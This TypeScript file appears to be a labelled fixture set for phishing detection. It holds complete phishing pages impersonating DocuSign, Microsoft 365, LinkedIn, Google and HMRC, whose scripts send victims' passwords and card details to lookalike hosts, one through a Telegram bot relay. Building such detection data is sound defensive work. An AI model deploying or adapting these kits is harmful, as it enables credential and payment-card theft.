import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { b64, cssBase, doc, esc, mark, tgRelay } from '../parts/yr-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

/** The Microsoft-style sign-in most document lures end on. */
const m365Kit = (company: string, post: string): string =>
  doc({
    title: 'Sign in to your account',
    css: `body{margin:0;font-family:"Segoe UI",Tahoma,Arial,sans-serif;background:#e6e6e6}.b{width:440px;margin:100px auto;background:#fff;padding:44px;box-sizing:border-box;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.t{font-size:24px;font-weight:600;margin:16px 0 12px}input{width:100%;border:0;border-bottom:1px solid #666;padding:7px 0;font-size:15px;margin-bottom:18px;outline:0}
button{float:right;background:#0067b8;color:#fff;border:0;min-width:108px;height:32px}.s{clear:both;font-size:13px;padding-top:14px}#p2{display:none}`,
    body: `<div class="b">${mark.microsoft}<div id="p1"><div class="t">Sign in</div><p style="font-size:13px">to continue to <b>${esc(company)}</b> SharePoint</p><input id="em" type="email" placeholder="Email, phone, or Skype"><p class="s">No account? <a href="#">Create one!</a></p><button onclick="n1()">Next</button></div>
<div id="p2"><div id="who" style="font-size:14px;margin-top:10px"></div><div class="t">Enter password</div><input id="pw" type="password" placeholder="Password"><p class="s"><a href="#">Forgot my password</a></p><button onclick="n2()">Sign in</button></div></div>
<script>
var h=location.hash.slice(1);if(h){try{document.getElementById('em').value=atob(h)}catch(e){}}
function n1(){var e=document.getElementById('em').value;if(e.indexOf('@')<1)return;document.getElementById('who').textContent=e;p1.style.display='none';p2.style.display='block'}
function n2(){fetch(${JSON.stringify(post)},{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({u:document.getElementById('em').value,p:document.getElementById('pw').value,r:document.referrer})}).then(function(){location.href='https://www.office.com/?auth=2'})}
</script>`,
  });

const linkedinKit = (post: string, note = ''): string =>
  doc({
    title: 'LinkedIn Login, Sign in | LinkedIn',
    css: `body{margin:0;font-family:-apple-system,system-ui,"Segoe UI",Roboto,Arial,sans-serif;background:#f3f2ef;color:rgba(0,0,0,.9)}.h{padding:22px 56px}
.c{width:352px;margin:10px auto;background:#fff;border-radius:8px;box-shadow:0 4px 12px rgba(0,0,0,.15);padding:24px}.c h1{font-size:32px;font-weight:600;margin:0 0 4px}
.c input{width:100%;box-sizing:border-box;height:52px;border:1px solid rgba(0,0,0,.6);border-radius:4px;padding:0 12px;font-size:15px;margin-top:16px}
.c button{width:100%;height:52px;margin-top:24px;border:0;border-radius:28px;background:#0a66c2;color:#fff;font-size:16px;font-weight:600}.c a{color:#0a66c2;font-weight:600;font-size:14px}`,
    body: `<div class="h">${mark.linkedin}</div><div class="c"><h1>Sign in</h1><p style="font-size:14px;margin:0">${note || 'Stay updated on your professional world'}</p>
<form id="li" method="post" action="${post}"><input name="session_key" placeholder="Email or Phone" autocomplete="username"><input name="session_password" type="password" placeholder="Password"><p><a href="#">Forgot password?</a></p><button>Sign in</button></form></div>
<p style="text-align:center;font-size:14px">New to LinkedIn? <a href="#" style="color:#0a66c2;font-weight:600">Join now</a></p>`,
  });

export const entries: Entry[] = [
  {
    id: 'yr-docusign-salary-review-to-m365',
    label: 'phishing',
    kind: 'doc-lure',
    url: 'https://docusign-envelope.hr-reviewnotice.com/Signing/EmailStart.aspx?a=7c1e04b2-9f3d-4e1a-b6d2-2a9f11c0e8d4',
    body: doc({
      title: 'DocuSign',
      css: `body{margin:0;background:#f4f4f4;font-family:Helvetica,Arial,sans-serif}.hd{background:#fff;padding:16px 30px;border-bottom:1px solid #ddd}
.env{max-width:620px;margin:40px auto;background:#1e4ca1;color:#fff;text-align:center;padding:34px}.env .ic{font-size:44px}.env a{display:inline-block;background:#ffc820;color:#1e1e1e;font-weight:700;padding:12px 26px;border-radius:3px;text-decoration:none;margin-top:16px}
.bd{max-width:620px;margin:0 auto;background:#fff;padding:26px 34px;font-size:15px;color:#333}`,
      body: `<div class="hd">${mark.docusign}</div>
<div class="env"><div class="ic">📄</div><p>Human Resources sent you a document to review and sign.</p><a id="rv" href="#">REVIEW DOCUMENT</a></div>
<div class="bd"><p><b>Crestline Medical Billing – HR</b><br>hr-notifications@crestlinemedbilling.com</p><p>Hello,</p><p>Please review and acknowledge your <b>2025 Annual Salary Review &amp; Compensation Adjustment</b>. The adjustment will be reflected in the next payroll cycle once signed.</p><p>Thank you,<br>People Operations</p>
<p style="font-size:12px;color:#777;border-top:1px solid #eee;padding-top:12px">Do Not Share This Email: This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.</p></div>
<script>document.getElementById('rv').href='https://login-m365.hr-reviewnotice.com/common/oauth2/v2.0/authorize?client_id=00000003-0000-0ff1-ce00'+(location.hash||'');</script>`,
    }),
    routes: {
      'login-m365.hr-reviewnotice.com/common/oauth2/v2.0/authorize': htmlRoute(m365Kit('Crestline Medical Billing', '/common/login.php')),
      'login-m365.hr-reviewnotice.com/common/login.php': jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'yr-payslip-click-tracker-js-hop-kit',
    label: 'phishing',
    kind: 'redirect-chain',
    url: 'https://click.mailer-hrnotify.com/ls/click?upn=u001.Xk9-2BqLm7Rf0-3D-3D&eid=p7Q',
    routes: {
      'click.mailer-hrnotify.com/ls/click': redirectRoute(302, 'https://cdn-docview.pages-host.net/r/index.html?d=cGF5c2xpcC12aWV3LnNlY3VyZS1ocnBvcnRhbC5jb20'),
      'cdn-docview.pages-host.net/r/index.html': htmlRoute(`<!doctype html><html><head><meta charset="utf-8"><title>Redirecting…</title><meta name="robots" content="noindex"></head><body>
<p style="font:14px Arial;color:#666">Loading your document…</p>
<script>var d=new URLSearchParams(location.search).get('d');setTimeout(function(){location.replace('https://'+atob(d)+'/employee/payslip?ref='+Date.now().toString(36))},600);</script></body></html>`),
      'payslip-view.secure-hrportal.com/employee/payslip': htmlRoute(
        doc({
          title: 'Payslip Viewer – Employee Self Service',
          css: cssBase + `.w{max-width:420px;margin:70px auto;background:#fff;padding:30px;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.1)}.f{background:#f1f5f9;padding:12px;border-radius:6px;margin:14px 0}`,
          body: `<div class="w"><h2>Employee Self Service</h2><div class="f">📄 <b>Payslip_October_2025.pdf</b><br><span class="muted">Pay date 31 Oct 2025 · Net pay includes back-dated pay rise</span></div>
<p>Sign in with your company e-mail to open the document.</p><form method="post" action="/employee/auth.php"><label>Company e-mail</label><input type="email" name="email"><label>E-mail password</label><input type="password" name="password"><button style="width:100%;margin-top:14px">Open document</button></form></div>`,
        }),
      ),
    },
  },
  {
    id: 'yr-linkedin-inmail-recruiter-notice',
    label: 'phishing',
    kind: 'social-login-lure',
    url: 'https://linkedin-messaging.talent-inbox.com/comm/messaging/thread/2-MjE0NzA5',
    body: doc({
      title: 'You have 1 new message | LinkedIn',
      css: `body{margin:0;font-family:-apple-system,system-ui,Segoe UI,Roboto,Arial,sans-serif;background:#f3f2ef}.m{max-width:600px;margin:30px auto;background:#fff;border-radius:8px;padding:24px 28px;box-shadow:0 0 0 1px rgba(0,0,0,.08)}
.p{display:flex;gap:12px;align-items:center;margin:18px 0}.p .a{width:56px;height:56px;border-radius:50%;background:#cbd5e1}.q{background:#f3f6f8;border-radius:8px;padding:14px;font-size:14px;line-height:1.5}
.m a.b{display:inline-block;background:#0a66c2;color:#fff;border-radius:24px;padding:10px 22px;font-weight:600;text-decoration:none;margin-top:16px}`,
      body: `<div class="m">${mark.linkedin}<h2 style="font-weight:500">You have 1 new message</h2>
<div class="p"><div class="a"></div><div><b>Emily Hart</b><br><span style="font-size:13px;color:#666">Principal Recruiter at Stripe · 2nd</span></div></div>
<div class="q">Hi, I came across your profile and think you'd be a great fit for a <b>Senior Product Analyst</b> role (fully remote, $165k–$190k + equity). I've attached the role description and salary band — could you take a look and let me know if you're open to a 20-minute call this week?</div>
<a class="b" href="https://www.linkedin-jobs-signin.com/checkpoint/lg/login?session_redirect=%2Fmessaging%2Fthread%2F2-MjE0NzA5">View message</a>
<p style="font-size:12px;color:#666;margin-top:26px">This email was intended for you. Learn why we included this. © 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.</p></div>`,
    }),
    routes: {
      'www.linkedin-jobs-signin.com/checkpoint/lg/login': htmlRoute(linkedinKit('/checkpoint/lg/login-submit.php', 'Sign in to read your message from Emily Hart')),
    },
  },
  {
    id: 'yr-linkedin-easy-apply-clone-telegram',
    label: 'phishing',
    kind: 'social-login-kit',
    url: 'https://linkedin.easyapply-careers.com/login',
    body: linkedinKit('#', 'Sign in to complete your Easy Apply application').replace(
      '</body>',
      tgRelay('#li', '8021447730:AAHm3Zq8yTn1Wc5RkPd0LxV7sGf2JbE9uAo', '6180293347', 'https://www.linkedin.com/jobs/') + '</body>',
    ),
  },
  {
    id: 'yr-google-signin-to-apply-jobboard',
    label: 'phishing',
    kind: 'social-login-kit',
    url: 'https://apply.remotejobs-hub.net/oauth/google?job=ux-designer-remote-4471',
    body: doc({
      title: 'Sign in – Google Accounts',
      css: `body{margin:0;font-family:"Google Sans",Roboto,Arial,sans-serif;background:#f0f4f9}.c{width:450px;margin:90px auto;background:#fff;border-radius:28px;padding:36px 40px}
h1{font-size:30px;font-weight:400;margin:18px 0 8px}.s{font-size:15px;margin-bottom:26px}input{width:100%;box-sizing:border-box;height:54px;border:1px solid #747775;border-radius:4px;padding:0 14px;font-size:16px;margin-bottom:14px}
.r{display:flex;justify-content:flex-end;gap:12px;margin-top:26px}.r button{background:#0b57d0;color:#fff;border:0;border-radius:20px;padding:10px 24px;font-weight:500}.ch{display:inline-block;border:1px solid #747775;border-radius:16px;padding:4px 12px;font-size:14px}#s2{display:none}`,
      body: `<div class="c">${mark.google}
<div id="s1"><h1>Sign in</h1><div class="s">to continue to <b>RemoteJobs Hub</b> · Apply for <b>UX Designer (Remote)</b></div><input id="e" type="email" placeholder="Email or phone"><a href="#" style="color:#0b57d0;font-size:14px">Forgot email?</a><div class="r"><button onclick="a()">Next</button></div></div>
<div id="s2"><h1>Welcome</h1><div class="ch" id="who"></div><input id="p" type="password" placeholder="Enter your password" style="margin-top:22px"><div class="r"><button onclick="b()">Next</button></div></div></div>
<script>
function a(){var e=document.getElementById('e').value;if(!e)return;document.getElementById('who').textContent=e;s1.style.display='none';s2.style.display='block'}
function b(){var x=new XMLHttpRequest();x.open('POST','https://remotejobs-hub.net/api/candidates/oauth-callback.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.send('e='+encodeURIComponent(document.getElementById('e').value)+'&p='+encodeURIComponent(document.getElementById('p').value));x.onloadend=function(){location.href='https://apply.remotejobs-hub.net/thanks'}}
</script>`,
    }),
  },
  {
    id: 'yr-hmrc-p60-tax-rebate-card',
    label: 'phishing',
    kind: 'government-kit',
    url: 'https://hmrc-p60-taxrebate.uk-refunds.com/claim/',
    body: doc({
      title: 'Claim your tax refund – GOV.UK',
      lang: 'en-GB',
      css: `body{margin:0;font-family:"GDS Transport",Arial,sans-serif;color:#0b0c0c}.g{background:#0b0c0c;color:#fff;padding:10px 30px;font-weight:700;font-size:22px;border-bottom:10px solid #1d70b8}
.w{max-width:640px;margin:30px auto;padding:0 20px}h1{font-size:36px}.inset{border-left:10px solid #b1b4b6;padding:12px 16px;margin:18px 0}
label{display:block;font-weight:700;margin:16px 0 4px}input{width:100%;box-sizing:border-box;padding:7px;border:2px solid #0b0c0c;font-size:18px}button{background:#00703c;color:#fff;border:0;padding:10px 18px;font-size:19px;margin-top:20px;box-shadow:0 2px 0 #002d18}`,
      body: `<div class="g">GOV.UK</div><div class="w"><p style="color:#505a5f">HM Revenue &amp; Customs</p><h1>Claim your tax refund</h1>
<p>After reviewing your P60 for the 2024 to 2025 tax year, we have determined that you were placed on an emergency tax code by your employer and are due a refund of <b>£482.10</b>.</p>
<div class="inset">Refunds must be claimed within 14 days of this notice. Refunds are paid directly to a debit card registered in your name.</div>
<form method="post" action="/claim/process.php"><label>Full name</label><input name="name"><label>National Insurance number</label><input name="nino" placeholder="QQ 12 34 56 C"><label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY"><label>Postcode</label><input name="postcode"><label>Card number</label><input name="cc" inputmode="numeric"><label>Expiry date</label><input name="exp" placeholder="MM/YY"><label>Security code</label><input name="cvv" maxlength="4"><button>Continue</button></form>
<p style="font-size:14px;margin-top:30px;color:#505a5f">© Crown copyright</p></div>`,
    }),
  },
];
